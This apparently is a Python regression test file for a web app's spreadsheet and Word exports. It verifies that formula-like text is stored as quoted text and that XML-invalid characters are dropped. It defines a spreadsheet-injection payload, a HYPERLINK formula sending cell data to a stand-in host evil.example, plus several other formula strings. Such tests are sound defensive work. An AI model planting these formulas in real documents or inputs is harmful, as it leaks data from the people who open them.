"""Issue 14's exports, as they were attacked. Text that a spreadsheet would run as a formula is
ordinary text to every form (people may well start a sentence with "-" or "="), so it is
accepted; what is refused is its running: it reaches every XLSX as a text cell with the quote
prefix (so editing the cell keeps it text) and every CSV behind a quote. And text stored before
the input rule refused the characters XML cannot carry (U+FFFE, U+FFFF, a lone surrogate) no
longer breaks a download for everyone: each writer drops them.

Every download the service offers, with hostile text in every field, is walked in
tests/documents/test_hostile_exports.py; the one writer is tests/documents/test_spreadsheet.py."""

import io
import re

from openpyxl import load_workbook
from sqlalchemy import select

from qa_app.documents.docx_base import docx_text
from qa_app.extensions import db
from qa_app.models import Answer, Audit, IndicatorCommentary, Report, Role
from qa_app.services import report_drafting
from tests.api.support import api_as
from tests.cycles.cycle_factory import make_cycle
from tests.documents.hostile_worlds import board_world
from tests.findings import known_data
from tests.helpers import csrf_token
from tests.indicators.support import APRIL, CONTACT_VALUES, CONTACTS, define, store

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
VERSION = re.compile(r'name="lock_version"[^>]*value="(\d+)"')


def cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [c for s in book.worksheets for row in s.iter_rows() for c in row if c.value]


def the_cell(data: bytes, text: str):
    found = [c for c in cells(data) if c.value == text]
    assert found, f"{text!r} is not in the workbook"
    return found[0]


def test_commentary_typed_as_a_formula_reaches_the_scorecard_as_text(client_as):
    contacts = define(CONTACTS)[0]
    store(contacts, CONTACT_VALUES)
    manager = client_as(Role.SENIOR_MANAGER)
    url = f"/indicators/{contacts.id}/commentary/2026-04"
    version = VERSION.search(manager.get(url).get_data(as_text=True)).group(1)
    posted = manager.post(
        url, data={"csrf_token": csrf_token(manager, url), "lock_version": version, "text": LEAK}
    )
    assert posted.status_code == 302  # accepted: it is text
    response = client_as(Role.BOARD_VIEWER).get("/indicators/scorecard.xlsx?month=2026-04")
    assert response.status_code == 200
    cell = the_cell(response.data, LEAK)
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert not [c for c in cells(response.data) if c.data_type == "f"]


def test_a_report_s_title_sections_and_findings_typed_as_formulas_reach_its_xlsx_as_text(
    client_as, loaded_templates, make_user
):
    known_data.build(make_user(Role.AUDITOR), make_user(Role.MODERATOR))
    cycle = make_cycle("Single assessments, Q1 2026")
    for audit in db.session.scalars(select(Audit)):
        audit.cycle_id = cycle.id
    db.session.commit()
    lead = client_as(Role.QA_LEAD)
    new = {"cycle": cycle.id, "audience": "internal", "template": "", "title": "+1+1 title"}
    drafted = lead.post(
        "/reports/new", data={**new, "csrf_token": csrf_token(lead, "/reports/new")}
    )
    assert drafted.status_code == 302
    report = db.session.scalars(select(Report)).one()
    url = f"/reports/{report.id}/edit"
    version = VERSION.search(lead.get(url).get_data(as_text=True)).group(1)
    typed = {
        "section__0": LEAK,
        "strengths": "-2+3 strength",
        "concerns": "@SUM(A1) concern",
        "development": "=1+1 development",
    }
    data = {"csrf_token": csrf_token(lead, url), "lock_version": version, **typed}
    assert lead.post(url, data=data).status_code == 302
    response = lead.get(f"/reports/{report.id}/report.xlsx")
    assert response.status_code == 200
    for text in ["+1+1 title", *typed.values()]:
        cell = the_cell(response.data, text)
        assert (cell.data_type, cell.quotePrefix) == ("s", True), text
    assert not [c for c in cells(response.data) if c.data_type == "f"]


def test_an_answer_stored_with_non_characters_no_longer_breaks_the_cycle_export(
    client_as, app, loaded_templates, make_user
):
    """The answer came in through PATCH /api/v1/audits/<id> before the API refused it."""
    data = known_data.build(make_user(Role.AUDITOR), make_user(Role.MODERATOR))
    cycle = make_cycle("Single assessments, Q1 2026")
    for audit in data["audits"]:
        audit.cycle_id = cycle.id
    answer = db.session.scalars(select(Answer).where(Answer.question_key == "delay_impact")).first()
    answer.value_text = "a\ufffeb\uffff"
    chosen = db.session.scalars(
        select(Answer).where(Answer.question_key == "presenting_concerns")
    ).first()
    chosen.value_choices = ["neglect", "\ud800"]  # a JSON column can hold a lone surrogate
    db.session.commit()
    response = client_as(Role.QA_LEAD).get(f"/cycles/{cycle.id}/export.xlsx")
    assert response.status_code == 200
    assert the_cell(response.data, "ab").data_type == "s"
    api = api_as(app, make_user, Role.QA_LEAD)
    audit = api.get(f"/audits/{answer.audit_id}")
    assert audit.status_code == 200
    assert audit.get_json()["answers"]["delay_impact"] == "ab"
    assert api.get(f"/audits/{chosen.audit_id}").get_json()["answers"]["presenting_concerns"] == [
        "neglect",
        "",
    ]


def test_a_published_board_report_holding_non_characters_still_downloads_as_word(
    client_as, loaded_templates, make_user
):
    """A published version cannot be edited: it must be writable as it is."""
    report = board_world(_Plain(), make_user)
    lead = report.created_by
    report_drafting.publish(report, based_on=report.lock_version, actor=lead)
    report.sections = [{**s, "text": "Narrative a\ufffeb\uffff\ud800c"} for s in report.sections]
    db.session.commit()
    response = client_as(Role.BOARD_VIEWER).get(f"/reports/board/{report.id}/report.docx")
    assert response.status_code == 200
    assert "Narrative abc" in docx_text(response.data)


def test_commentary_stored_with_non_characters_no_longer_breaks_the_scorecard(client_as):
    contacts = define(CONTACTS)[0]
    store(contacts, CONTACT_VALUES)
    db.session.add(
        IndicatorCommentary(indicator_id=contacts.id, month=APRIL, text="a\ufffeb\uffff")
    )
    db.session.commit()
    response = client_as(Role.BOARD_VIEWER).get("/indicators/scorecard.xlsx?month=2026-04")
    assert response.status_code == 200
    assert the_cell(response.data, "ab").data_type == "s"


class _Plain:
    """board_world's narrative, without the hostile tags (this test plants its own)."""

    def text(self, field: str, **_) -> str:
        return f"Ordinary {field}"
